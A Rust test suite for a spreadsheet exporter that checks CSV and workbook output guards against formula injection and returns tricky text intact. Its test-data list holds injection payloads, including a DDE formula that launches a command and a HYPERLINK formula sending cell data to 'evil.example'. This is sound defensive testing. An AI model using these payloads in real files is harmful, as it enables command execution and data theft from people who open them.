//! What is written is read again by the import of spreadsheets, and nothing in it is anything but text.

use std::io::{Cursor, Read as _};

use nevertwice_exchange::spreadsheet::reader::{Cell as Found, Layout, Limits, RawRow, Spreadsheet};
use proptest::prelude::*;

use super::*;

/// Texts that have broken exports before: formulas, quotes, separators, breaks, other scripts, look-alikes.
const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    "=1+1",
    "+1",
    "-1",
    "-",
    "+49 30 123456",
    "@x",
    "@SUM(A1)",
    "\t=1",
    "\tleading tab",
    "\n=1",
    "\nleading break",
    " =1",
    "\u{a0}=1",
    "\u{feff}=1",
    "\"=1\"",
    "'=1",
    "''=1",
    "' =1",
    "'\"=1",
    "'\t=1",
    "‘=1’",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'",
    "''",
    "'quoted'",
    "it's",
    "\"",
    "\"\"",
    "a \"quoted\" word",
    "a,b;c|d\te",
    "line one\nline two\n\nline four",
    "a\n=1",
    ";=1",
    ",=1",
    "sep=;",
    "ID;PWXL;N;E",
    "00123",
    "1E5",
    "1/2",
    "2026-03-17",
    "17.03.2026",
    "12345678901234567890",
    "TRUE",
    "NULL",
    "nan",
    "#REF!",
    "#N/A",
    "https://evil.example",
    "mailto:a@b.example",
    "file:///etc/passwd",
    "\\\\host\\share",
    "_x0041_ and _x000D_",
    "{=1}",
    "${7*7}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "]]>",
    "&amp;&#61;1",
    "<![CDATA[x]]>",
    "Zoë, naïve, Straße, Ωμέγα",
    "日本語の文字",
    "مرحبا بالعالم",
    "\u{202e}evil\u{202c}",
    "👩‍👩‍👧‍👦 🏳️‍🌈 e\u{301}",
    "a\u{200b}b\u{ad}c",
    "\u{fffd}",
    "%s %n %00",
    "C:\\new\\table",
    "plain",
];

fn rows_of(bytes: &[u8], delimiter: bool) -> Vec<RawRow> {
    let delimiter = delimiter.then_some(nevertwice_exchange::spreadsheet::reader::Delimiter::Comma);
    let layout = Layout { delimiter, ..Layout::default() };
    let mut sheet = Spreadsheet::open(Cursor::new(bytes.to_vec()), &layout, Limits::default()).unwrap();
    sheet.rows().unwrap().map(Result::unwrap).collect()
}

/// The texts of the second column, behind a first one that keeps rows from being blank.
fn texts_of(rows: &[RawRow]) -> Vec<String> {
    rows.iter().skip(1).map(|row| row.cells.get(1).map(Found::text).unwrap_or_default()).collect()
}

fn table_of(texts: &[impl AsRef<str>]) -> (Table, Vec<Vec<Cell>>) {
    let table = Table::new("Texts").with("Number", Kind::Number).with("Text", Kind::Text);
    let rows = (0_u32..).zip(texts).map(|(at, text)| vec![at.into(), text.as_ref().into()]).collect();
    (table, rows)
}

/// Every way in which a table is written.
fn written(texts: &[impl AsRef<str>]) -> [(&'static str, Vec<RawRow>); 3] {
    let (table, rows) = table_of(texts);
    let folder = tempfile::tempdir().unwrap();
    [
        ("CSV", rows_of(&as_csv(&table, &rows), true)),
        ("workbook", rows_of(&as_workbook(&table, &rows, None), false)),
        ("workbook by way of a file", rows_of(&as_workbook(&table, &rows, Some(folder.path())), false)),
    ]
}

#[test]
fn hostile_texts_come_back_as_they_were() {
    for (format, rows) in written(HOSTILE) {
        for (found, expected) in texts_of(&rows).iter().zip(HOSTILE) {
            assert_eq!(found, expected, "{format}");
        }
        assert_eq!(rows.len(), HOSTILE.len() + 1, "{format}");
        assert!(rows.iter().all(|row| row.formulas == 0 && row.flaw.is_none()), "{format}");
    }
}

#[test]
fn in_csv_no_cell_begins_as_a_formula() {
    let (table, rows) = table_of(HOSTILE);
    let bytes = as_csv(&table, &rows);
    for record in ::csv::Reader::from_reader(&bytes[..]).records() {
        let text = record.unwrap()[1].to_owned();
        assert!(
            !text.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']),
            "{text:?}"
        );
        assert!(!text.trim_start_matches([' ', '\u{a0}', '"']).starts_with(['=', '+', '-', '@']), "{text:?}");
    }
}

#[test]
fn in_a_workbook_texts_are_strings_and_days_are_days() {
    let (table, rows) = sample();
    let folder = tempfile::tempdir().unwrap();
    for scratch in [None, Some(folder.path())] {
        let bytes = as_workbook(&table, &rows, scratch);
        let read = rows_of(&bytes, false);
        let day = jiff::civil::datetime(2026, 3, 17, 0, 0, 0, 0);
        assert_eq!(
            read[1].cells[1..],
            [Found::Text("Rotate, \"all\"\nkeys".to_owned()), Found::Number(1234.5), Found::Moment(day)]
        );
        assert_eq!(read[2].cells[1..3], [Found::Text("=1+1".to_owned()), Found::Number(0.0)]);
        assert_eq!(read[3].cells[3], Found::Text("1899-12-31".to_owned()));
        let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!sheet.contains("<f>") && !sheet.contains("hyperlink"), "{sheet}");
        assert!(
            sheet.contains("state=\"frozen\"") && sheet.contains("<autoFilter ref=\"A1:D4\"/>"),
            "{sheet}"
        );
        assert!(part(&bytes, "xl/workbook.xml").contains("<sheet name=\"Open actions\""));
        assert!(part(&bytes, "docProps/core.xml").contains("2026-02-25T06:13:20Z"));
    }
}

fn part(workbook: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(workbook)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

#[test]
fn a_text_beyond_the_limit_is_cut_visibly_in_a_workbook_and_whole_in_csv() {
    let texts = [
        "x".repeat(CELL_LIMIT),
        "x".repeat(CELL_LIMIT + 1),
        "👍".repeat(CELL_LIMIT / 2 + 1),
        format!("'={}", "1".repeat(CELL_LIMIT - 2)),
    ];
    let [(_, csv), (_, workbook), (_, by_file)] = written(&texts);
    assert_eq!(texts_of(&csv)[..3], texts[..3]);
    for rows in [workbook, by_file] {
        let found = texts_of(&rows);
        assert_eq!(found[0], texts[0]);
        for (found, text) in found[1..].iter().zip(&texts[1..]) {
            let kept = found.strip_suffix(CUT_MARK).unwrap();
            assert!(
                text.starts_with(kept) && found.encode_utf16().count() > CELL_LIMIT - 3,
                "{}",
                found.len()
            );
            assert!(found.encode_utf16().count() <= CELL_LIMIT);
        }
    }
    let (table, rows) = table_of(&texts);
    let options = Workbook { created_at: Timestamp::UNIX_EPOCH, scratch: None };
    let counted = xlsx(&table, rows, &options, &mut Vec::new()).unwrap();
    assert_eq!(counted, Written { row_count: 4, cut_count: 3 });
}

#[test]
fn titles_are_as_harmless_as_cells() {
    let table = Table::new("=A1:[x]*?/\\ 'long title that goes on and on'")
        .with("=1", Kind::Text)
        .with("@y", Kind::Text);
    let rows = [vec![Cell::from("a"), Cell::from("b")]];
    let csv = rows_of(&as_csv(&table, &rows), true);
    let workbook = rows_of(&as_workbook(&table, &rows, None), false);
    for read in [csv, workbook] {
        assert_eq!(read[0].cells.iter().map(Found::text).collect::<Vec<_>>(), ["=1", "@y"]);
    }
    for title in
        ["", "'", "History", "[]", "a'", "🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂🙂", &"'x ".repeat(30), "\u{1}\n"]
    {
        as_workbook(&Table::new(title).with("a", Kind::Text), &[], None);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn any_text_comes_back(texts in proptest::collection::vec("['\"=+＝@,;\t\n a\u{a0}é👍-]{0,9}|\\PC{0,20}", 1..12)) {
        for (format, rows) in written(&texts) {
            prop_assert_eq!(rows.len(), texts.len() + 1, "{}", format);
            for (found, text) in texts_of(&rows).iter().zip(&texts) {
                let is_guarded = nevertwice_domain::formula::is_like_formula(text);
                let expected = if is_guarded { text.trim_end() } else { text.trim() };
                prop_assert_eq!(found, expected, "{}", format);
            }
        }
    }
}
